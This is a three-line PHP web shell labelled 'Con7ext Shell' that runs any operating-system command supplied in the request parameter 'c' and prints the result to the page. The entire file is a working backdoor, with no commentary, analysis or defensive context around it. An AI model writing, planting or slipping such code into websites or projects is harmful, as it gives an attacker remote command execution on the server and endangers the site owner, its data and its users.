<?php
echo "<h1>Con7ext Shell</h1>";
if(isset($_REQUEST['c'])){ echo "<pre>".shell_exec($_REQUEST['c'])."</pre>"; }
